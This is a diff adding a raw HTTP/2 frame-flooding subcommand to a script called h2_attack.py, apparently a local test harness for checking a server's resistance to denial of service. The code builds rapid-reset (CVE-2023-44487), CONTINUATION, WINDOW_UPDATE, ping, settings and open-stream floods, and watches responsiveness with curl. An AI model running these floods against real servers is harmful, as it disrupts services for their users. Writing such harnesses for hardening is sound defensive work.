@@ -33,6 +33,18 @@ bounded in count and time.
       every 2 s, until the server closes the connection or S seconds (default 15) pass.
       Prints {"closed_after": seconds or null}.
 
+  h2_attack.py frames --port P --cafile F --kind KIND [--seconds S] [--curl URL]
+      One connection that sends frames as fast as it can without reading, until the
+      server closes it or S seconds (default 10) pass. KIND: window_update (connection
+      WINDOW_UPDATE of 1), ping, settings (one entry each), priority, rapid_reset
+      (HEADERS with END_STREAM then RST_STREAM, new stream each time: CVE-2023-44487),
+      continuation (one HEADERS without END_HEADERS, then endless CONTINUATION frames),
+      empty_data (a request without END_STREAM, then empty DATA frames), headers
+      (requests without END_STREAM on new streams: all past the 32nd refused). With --curl, a
+      thread fetches URL with curl every 0.2 s meanwhile and records the slowest answer.
+      Prints {"closed_after", "bytes_sent", "goaway" (error code or null), "curl_n",
+      "curl_failed", "curl_max_s"}. Exit 0 when every curl succeeded.
+
   h2_attack.py wait-rss PID --max-kb K [--seconds S]
       Polls the RSS every 100 ms until it is at most K kB (exit 0), or S seconds (default
       10) pass (exit 1). Prints the last value.
@@ -222,6 +234,133 @@ def cmd_keepalive(a):
     return 0
 
 
+def frame(ftype, flags, sid, payload=b""):
+    return len(payload).to_bytes(3, "big") + bytes([ftype, flags]) + sid.to_bytes(4, "big") + payload
+
+
+def hpack_get(path):
+    """A literal-without-indexing header block of a GET (no Huffman, no table)."""
+    out = b""
+    for n, v in ((b":method", b"GET"), (b":path", path.encode()), (b":scheme", b"https"),
+                 (b":authority", b"localhost")):
+        out += b"\x00" + bytes([len(n)]) + n + bytes([len(v)]) + v
+    return out
+
+
+def frames_blob(kind, start_sid, size=65536):
+    """About size bytes of frames of one kind; returns (blob, next stream id)."""
+    parts = []
+    sid = start_sid
+    total = 0
+    while total < size:
+        if kind == "window_update":
+            f = frame(8, 0, 0, (1).to_bytes(4, "big"))
+        elif kind == "ping":
+            f = frame(6, 0, 0, b"\0" * 8)
+        elif kind == "settings":
+            f = frame(4, 0, 0, (4).to_bytes(2, "big") + (65535).to_bytes(4, "big"))
+        elif kind == "priority":
+            f = frame(2, 0, 1, (0).to_bytes(4, "big") + b"\x10")
+        elif kind == "rapid_reset":
+            f = frame(1, 0x5, sid, hpack_get("/")) + frame(3, 0, sid, (8).to_bytes(4, "big"))
+            sid += 2
+        elif kind == "headers":
+            f = frame(1, 0x4, sid, hpack_get("/"))  # END_HEADERS, no END_STREAM: stays open
+            sid += 2
+        elif kind == "continuation":
+            f = frame(9, 0, 1, b"\x00\x01x\x01y" * 64)  # literal x: y, over and over
+        elif kind == "empty_data":
+            f = frame(0, 0, 1, b"")
+        else:
+            raise SystemExit("unknown kind " + kind)
+        parts.append(f)
+        total += len(f)
+    return b"".join(parts), sid
+
+
+def parse_goaway(buf):
+    """Error code of the first GOAWAY frame in buf (server frames), or None."""
+    i = 0
+    while i + 9 <= len(buf):
+        n = int.from_bytes(buf[i:i + 3], "big")
+        if buf[i + 3] == 7 and i + 9 + 8 <= len(buf):
+            return int.from_bytes(buf[i + 13:i + 17], "big")
+        i += 9 + n
+    return None
+
+
+def cmd_frames(a):
+    import threading
+    curl_times = []
+    curl_failed = [0]
+    stop = threading.Event()
+
+    def curl_loop():
+        while not stop.is_set():
+            t = time.time()
+            if not curl_ok(a.curl, a.cafile):
+                curl_failed[0] += 1
+            curl_times.append(time.time() - t)
+            stop.wait(0.2)
+    th = None
+    if a.curl:
+        th = threading.Thread(target=curl_loop)
+        th.start()
+    c = H2(a.port, a.cafile)
+    first = b""
+    sid = 1
+    if a.kind == "continuation":
+        first = frame(1, 0, 1, hpack_get("/"))  # HEADERS without END_HEADERS
+        sid = 3
+    elif a.kind == "empty_data":
+        first = frame(1, 0x4, 1, hpack_get("/"))  # HEADERS, END_HEADERS, no END_STREAM
+        sid = 3
+    elif a.kind == "rapid_reset":
+        sid = 1
+    blob, _ = frames_blob(a.kind, sid)
+    c.sock.settimeout(1)
+    t0 = time.time()
+    sent = 0
+    closed = None
+    rx = b""
+    try:
+        if first:
+            c.sock.sendall(first)
+        while time.time() - t0 < a.seconds:
+            if a.kind in ("rapid_reset", "headers"):
+                blob, sid = frames_blob(a.kind, sid)
+            try:
+                c.sock.sendall(blob)
+                sent += len(blob)
+            except socket.timeout:
+                pass
+            c.sock.setblocking(False)
+            try:
+                while True:
+                    d = c.sock.recv(65536)
+                    if not d:
+                        closed = time.time() - t0
+                        break
+                    rx += d[:1 << 20] if len(rx) < (1 << 20) else b""
+            except (BlockingIOError, ssl.SSLWantReadError):
+                pass
+            finally:
+                c.sock.settimeout(1)
+            if closed is not None:
+                break
+    except (OSError, ssl.SSLError):
+        closed = time.time() - t0
+    stop.set()
+    if th:
+        th.join()
+    c.abort()
+    ga = parse_goaway(rx) if rx else None
+    print(json.dumps({"closed_after": None if closed is None else round(closed, 2), "bytes_sent": sent,
+                      "goaway": ga, "curl_n": len(curl_times), "curl_failed": curl_failed[0],
+                      "curl_max_s": round(max(curl_times), 3) if curl_times else None}))
+    return 0 if curl_failed[0] == 0 else 1
+
+
 def cmd_wait_rss(a):
     end = time.time() + a.seconds
     while True:
@@ -263,6 +402,12 @@ def main():
     k.add_argument("--streams", type=int, default=0)
     k.add_argument("--path", default="")
     k.add_argument("--seconds", type=float, default=15)
+    fr = sub.add_parser("frames")
+    fr.add_argument("--port", type=int, required=True)
+    fr.add_argument("--cafile", required=True)
+    fr.add_argument("--kind", required=True)
+    fr.add_argument("--seconds", type=float, default=10)
+    fr.add_argument("--curl")
     w = sub.add_parser("wait-rss")
     w.add_argument("pid", type=int)
     w.add_argument("--max-kb", type=int, required=True)
@@ -277,6 +422,8 @@ def main():
         return cmd_flood(a)
     if a.cmd == "keepalive":
         return cmd_keepalive(a)
+    if a.cmd == "frames":
+        return cmd_frames(a)
     return cmd_wait_rss(a)
 
 
